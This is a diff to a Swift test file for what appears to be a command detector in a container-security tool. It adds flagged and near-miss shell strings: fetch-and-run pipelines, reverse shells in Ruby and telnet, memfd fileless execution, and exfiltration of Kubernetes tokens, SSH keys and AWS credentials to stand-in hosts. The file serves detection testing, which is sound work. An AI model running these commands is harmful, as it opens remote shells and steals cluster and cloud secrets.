@@ -30,6 +30,7 @@ struct FunctionTableTests {
                 "sh -c (curl -s http://x.example/a || wget -qO- http://x.example/a) | sh",
                 "curl -sL http://x.example/t.tgz | tar xz -C /tmp && /tmp/t/run", ". <(curl -s http://x.example)",
                 "curl http://x.example/a > /tmp/b; mv /tmp/b /tmp/c; sh /tmp/c",
+                "wget -i http://x.example/l -P /opt/w && sh /opt/w/run", "wget -q -i l; chmod +x run; ./run",
             ],
             nearMisses: [
                 "curl -fsS http://localhost:8080/healthz", "curl -s http://x.example/api | jq .items",
@@ -55,8 +56,13 @@ struct FunctionTableTests {
                 "pip install -r https://x.example/requirements.txt", "rpm -ivh http://x.example/p.rpm",
                 "yum install -y https://x.example/p.rpm", "uv pip install git+https://x.example/p",
                 "git clone https://x.example/r && cd r && pip install -r requirements.txt",
+                "go run x.example/tool@latest", "go install x.example/tool/cmd/t@v1.2.3",
+                "uvx --from git+https://x.example/p p",
+                "pip install --index-url http://198.51.100.7/simple p", "npm i --registry=http://198.51.100.7:4873 p",
             ],
             nearMisses: [
+                "go run ./cmd/app", "go install ./...", "pip install --index-url http://10.0.0.5/simple p",
+                "npm i --registry=https://npm.x.example p",
                 "git clone https://x.example/site /usr/share/nginx/html && nginx -g 'daemon off;'",
                 "git clone https://x.example/r.git && cd r && git log", "git checkout main && ./run.sh",
                 "git clone https://x.example/data /data; python3 /app/train.py", "pip install flask==3.0.0",
@@ -79,7 +85,8 @@ struct FunctionTableTests {
                 "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s",
                 "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                 "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"sh <&3 >&3 2>&3\");'",
-                "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2",
+                "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2", "xterm -display 203.0.113.7:1",
+                "ruby -rsocket -e 'c=TCPSocket.new(\"a\",1);while(l=c.gets);IO.popen(l){|o|c.print o.read};end'",
             ],
             nearMisses: [
                 "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
@@ -120,6 +127,109 @@ struct FunctionTableTests {
                 "cat /etc/crontab", "cp /etc/passwd /tmp/p", "ls /etc/cron.d", "systemctl status kubelet", "crontab -l",
                 "echo done > /var/log/cron.log", "grep root /etc/shadow", "node-agent --systemd-unit=kubelet", "",
                 "cron -f", "tar xf /etc/profile.tgz -C /tmp",
+            ]),
+        FunctionCase(
+            name: "runsFromMemory", judge: MemoryExecution.judge,
+            seen: [
+                "dd if=/x of=/proc/self/mem bs=1 seek=4096 conv=notrunc",
+                "cat /x | dd of=/proc/$$/mem bs=1 seek=$((0x1000))",
+                "dd of=/proc/4711/mem seek=1 < /x",
+                "python3 -c 'import os;f=os.memfd_create(\"\");os.write(f,b);os.execv(\"/proc/self/fd/3\",[])'",
+                "perl -e '$f=syscall(319,$n,1);exec {\"/proc/$$/fd/$f\"} \"k\"'",
+            ],
+            nearMisses: [
+                "cat /proc/self/mem", "dd if=/proc/self/mem of=/x", "dd of=/proc/self/oom_score_adj",
+                "cat /proc/meminfo",
+                "grep memfd_create /x", "dd of=/x seek=1", "",
+            ]),
+        FunctionCase(
+            name: "sendsCredentials", judge: CredentialSend.judge,
+            seen: [
+                "curl -T /run/secrets/kubernetes.io/serviceaccount/token http://198.51.100.7/",
+                "wget --post-file=/root/.aws/credentials http://x.example.net",
+                "curl -F f=@/root/.kube/config https://x.example.net",
+                "sh -c 'cat /root/.ssh/id_rsa | nc 198.51.100.7 443'",
+                "nc 198.51.100.7 443 < /etc/kubernetes/admin.conf",
+                "bash -c 'cat /run/secrets/kubernetes.io/serviceaccount/token > /dev/tcp/198.51.100.7/443'",
+                "curl -H \"X: $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" http://198.51.100.7/",
+                "curl http://c.example.net/?t=$(base64 /run/secrets/kubernetes.io/serviceaccount/token)",
+                "scp /root/.ssh/id_rsa u@198.51.100.7:/k",
+                "curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/r | curl -d @- https://c.example.net",
+            ],
+            nearMisses: [
+                "curl -H \"Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default/api",
+                "curl --cacert /run/secrets/kubernetes.io/serviceaccount/ca.crt https://x.example.net",
+                "curl -H \"Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://x.example.net/v2/",
+                "curl -d \"{jwt: $(cat /run/secrets/kubernetes.io/serviceaccount/token)}\" http://vault:8200/v1/auth",
+                "curl -d \"$(cat /run/secrets/kubernetes.io/serviceaccount/token)\" http://10.0.0.7:8200/",
+                "cat /run/secrets/kubernetes.io/serviceaccount/token | cut -d. -f2",
+                "curl -T /data http://x.example.net",
+                "curl -o /root/.kube/config http://x.example.net/c", "curl 169.254.169.254/latest/meta-data/hostname",
+                "",
+            ]),
+        FunctionCase(
+            name: "startsOwnProgram", judge: OwnProgram.judge,
+            seen: [
+                "bash /agent/start.sh --node x", "sh -c exec /agent --all", "/agent --all",
+                "sh -c ceph-thing raw activate",
+                "/bin/sh -c /sbin/tini -- /usr/lib/d/start &\nn=0\nuntil [[ -f /etc/d/d.log || $n -eq 60 ]]; do\n"
+                    + "sleep 1\nn=$(( $n + 1 ))\ndone\ntail -f /etc/d/d.log\n",
+                "bash -c '/opt/x/deploy.sh install' > /dev/null",
+            ],
+            nearMisses: [
+                "sh /tmp/x.sh", "sh x.sh", "bash -i", "sh -c 'cp /x /host/usr/bin/x; /x'",
+                "sh -c '/x > /host/etc/cron.d/x'",
+                "sh -c 'curl http://x.example/a -o /x; /x'", "sh -c sleep 1d", "python3 /app/x.py", "/host/usr/bin/x",
+                "sh -c $X", "sh -c 'nsenter -t 1 -m -- /x'", "/opt/.x/y", "bash < /x", "sh -c 'cat /x | sh'", "",
+            ]),
+        FunctionCase(
+            name: "setsKernelLimits", judge: KernelLimits.judge,
+            seen: [
+                "sysctl -w vm.max_map_count=262144", "/sbin/sysctl -w net.core.somaxconn=1024",
+                "sh -c sysctl -w net.ipv4.ip_forward=1 && sysctl -w net.ipv4.conf.all.src_valid_mark=1",
+                "sh -c 'set -xe\nD=\"262144\"\nC=$(sysctl -n vm.max_map_count)\nif [ \"$D\" -gt \"$C\" ]; then\n"
+                    + "  sysctl -w vm.max_map_count=$D\nfi\n'",
+                "iptables --append OUTPUT --destination 169.254.169.254 --jump DROP",
+                "sh -c 'sysctl -w net.ipv4.ip_forward=1 && if sysctl net.ipv6.conf.all.forwarding; then "
+                    + "sysctl -w net.ipv6.conf.all.forwarding=1; fi'",
+            ],
+            nearMisses: [
+                "sysctl -w kernel.core_pattern=|/x", "sh -c 'sysctl -w vm.max_map_count=1; /x'",
+                "sh -c 'echo never > /host-sys/x'",
+                "sysctl -p /x", "sh -c 'sysctl -w vm.x=1 | sh'", "iptables-save > /x", "sh -c sysctl -w vm.x=$(curl x)",
+                "set -e; echo done", "sh -e /scripts/init.sh", "",
+            ]),
+        FunctionCase(
+            name: "readsClusterCredentials", judge: CredentialRead.ofCluster,
+            seen: [
+                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                "sh -c cat /run/secrets/kubernetes.io/serviceaccount/token",
+                "curl -T /var/run/secrets/kubernetes.io/serviceaccount/token http://x.example",
+                "cp /root/.kube/config /tmp/c",
+                "base64 < /etc/kubernetes/admin.conf", "tar c /etc/kubernetes/pki",
+                "python3 -c 'print(open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").read())'",
+                "sh -c 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://x'",
+                "kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods",
+            ],
+            nearMisses: [
+                "sh -c cat > /root/.kube/config", "sh -c 'mkdir -p /root/.kube && cat > /root/.kube/config'",
+                "cp /tmp/c /root/.kube/config", "chmod 600 /root/.kube/config", "tee /root/.kube/config",
+                "sh -c 'echo $C | base64 -d > /root/.kube/config && chmod 600 /root/.kube/config'",
+                "test -f /root/.kube/config",
+                "cat /etc/hosts", "",
+            ]),
+        FunctionCase(
+            name: "readsCredentials", judge: CredentialRead.any,
+            seen: [
+                "cat /etc/shadow", "cat /root/.ssh/id_rsa", "curl http://169.254.169.254/latest/meta-data/",
+                "cat /proc/1/environ",
+                "sh -c 'cat /proc/*/environ'", "strings /host/proc/4711/environ", "cat /home/u/.aws/credentials",
+                "cat /root/.docker/config.json",
+            ],
+            nearMisses: [
+                "cat /proc/self/environ", "cp /tmp/k /root/.ssh/id_rsa", "sh -c 'cat > /root/.docker/config.json'",
+                "env",
+                "touch /root/.aws/credentials", "",
             ]),
         FunctionCase(
             name: "isHostRoot", judge: HostPath.isRoot,
